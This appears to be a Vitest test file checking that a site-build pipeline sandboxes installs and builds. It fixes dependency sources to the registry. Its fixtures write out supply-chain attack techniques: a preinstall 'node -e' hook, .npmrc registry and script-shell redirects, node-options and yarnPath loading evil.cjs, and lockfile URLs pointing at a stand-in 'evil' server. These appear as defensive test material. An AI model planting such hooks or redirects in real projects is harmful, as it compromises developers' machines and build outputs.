import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { describe, expect, it, onTestFinished } from 'vitest';
import { z } from 'zod';
import { getTree, readText } from '../../pipelines/engine/tree.js';
import { buildFiles, canary, fakeRegistry, hashes, project } from '../support/build.js';
import { strongKinds } from '../support/sandbox.js';

const Row = z.looseObject({ tree: z.string(), sourceTree: z.string() });
const strongest = strongKinds.find(({ sandbox }) => sandbox !== undefined)?.sandbox;
const why = strongKinds.map((one) => one.why).join('; ');

async function built(files: Readonly<Record<string, string>>, publishedAt?: string) {
  const { blobs, row, dropped } = await buildFiles(files, {
    ...(strongest && { sandbox: strongest }),
    ...(publishedAt && { publishedAt }),
  });
  expect(dropped).toBeUndefined();
  const parsed = Row.parse(row);
  const tree = await getTree(blobs, parsed.tree);
  return { row: parsed, tree, text: (path: string) => readText(blobs, tree, path) };
}

describe('builds in a sandbox', () => {
  if (strongest === undefined) {
    it.skip(`no sandbox works on this machine: ${why}`, () => {});
    return;
  }

  it('give the site that comes out, whatever was built before', async () => {
    const registry = await fakeRegistry();
    const { row, tree, text } = await built(project, '2025-06-01T00:00:00.000Z');
    expect(Object.keys(tree)).toEqual(['assets/app.js', 'index.html']);
    expect(await text('assets/app.js')).toContain('built by 1.0.0');
    expect(row).toMatchObject({
      root: 'dist',
      entry: 'index.html',
      pages: 1,
      spa: true,
      base: '/',
      built: { manager: 'pnpm', versions: '2025-06-02', script: 'build', oldOpenssl: false },
    });
    const cache = process.env.FRESHET_CACHE ?? '';
    const before = await hashes(cache);
    expect(Object.keys(before)).toHaveLength(4);

    // The next one means harm: while it is installed, built, and to whoever comes after it.
    registry.requests.length = 0;
    const canaryPath = await canary();
    let visits = 0;
    const evil = createServer((_, response) => {
      visits += 1;
      response.end('{}');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => void evil.close());
    const address = evil.address();
    const there = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`;
    const document = z
      .object({
        versions: z.record(z.string(), z.object({ dist: z.object({ integrity: z.string() }) })),
      })
      .parse(await (await fetch(`${registry.url}vite`)).json());
    const integrity = document.versions['1.0.0']?.dist.integrity;
    const harm = `require('node:fs').appendFileSync(${JSON.stringify(canaryPath)}, 'dead')`;
    const files = {
      ...project,
      'package.json': JSON.stringify({
        packageManager: 'yarn@4.0.0',
        scripts: { build: 'vite build', preinstall: `node -e "${harm}"` },
        dependencies: { react: '1.0.0', vite: '1.0.0' },
      }),
      'package-lock.json': JSON.stringify({
        lockfileVersion: 3,
        packages: {
          '': { dependencies: { react: '1.0.0', vite: '1.0.0' } },
          'node_modules/react': { version: '1.0.0', resolved: `${there}react-1.0.0.tgz` },
          'node_modules/vite': {
            version: '1.0.0',
            resolved: `${there}vite-1.0.0.tgz`,
            integrity,
            bin: { vite: 'vite.mjs' },
            hasInstallScript: true,
          },
        },
      }),
      '.npmrc': `registry=${there}\nscript-shell=/project/evil.sh\nnode-options=--require=./evil.cjs\n`,
      '.pnpmfile.cjs': harm,
      '.yarnrc.yml': 'yarnPath: evil.cjs\nplugins:\n  - evil.cjs\n',
      'evil.cjs': harm,
      'evil.sh': `#!/bin/sh\necho dead > ${canaryPath}\n`,
      'extra.mjs': `import { appendFileSync, existsSync } from 'node:fs';
export default () => {
  let said = '';
  if (existsSync('node_modules/vite/by-a-script')) said += 'a script was run';
  for (const path of ['node_modules/vite/settings.mjs', 'node_modules/react/new', ${JSON.stringify(canaryPath)}]) {
    try {
      appendFileSync(path, 'poison');
      said += 'wrote ' + path;
    } catch {}
  }
  return said;
};`,
    };
    const second = await built(files, '2025-06-01T00:00:00.000Z');
    expect(second.row).toMatchObject({ built: { manager: 'npm', versions: 'package-lock.json' } });
    expect(await second.text('assets/app.js')).toBe('// built by 1.0.0\n');
    expect(visits).toBe(0);
    expect(await readFile(canaryPath, 'utf8')).toBe('alive');
    // What is there is neither changed nor fetched again.
    expect(await hashes(cache)).toEqual(before);
    expect(registry.requests).toEqual(['/vite']);
  });

  it('ask nobody but the registry', async () => {
    const registry = await fakeRegistry();
    const dependencies = { react: '1.0.0', vite: 'github:someone/vite' };
    const scripts = { build: 'vite build' };
    const manifest = { 'package.json': JSON.stringify({ scripts, dependencies }) };
    const { dropped } = await buildFiles({ ...project, ...manifest });
    expect(dropped).toEqual({
      reason: 'install-foreign',
      detail: 'not from the registry: vite (github:someone/vite)',
    });
    expect(registry.requests).toEqual([]);
  });
});
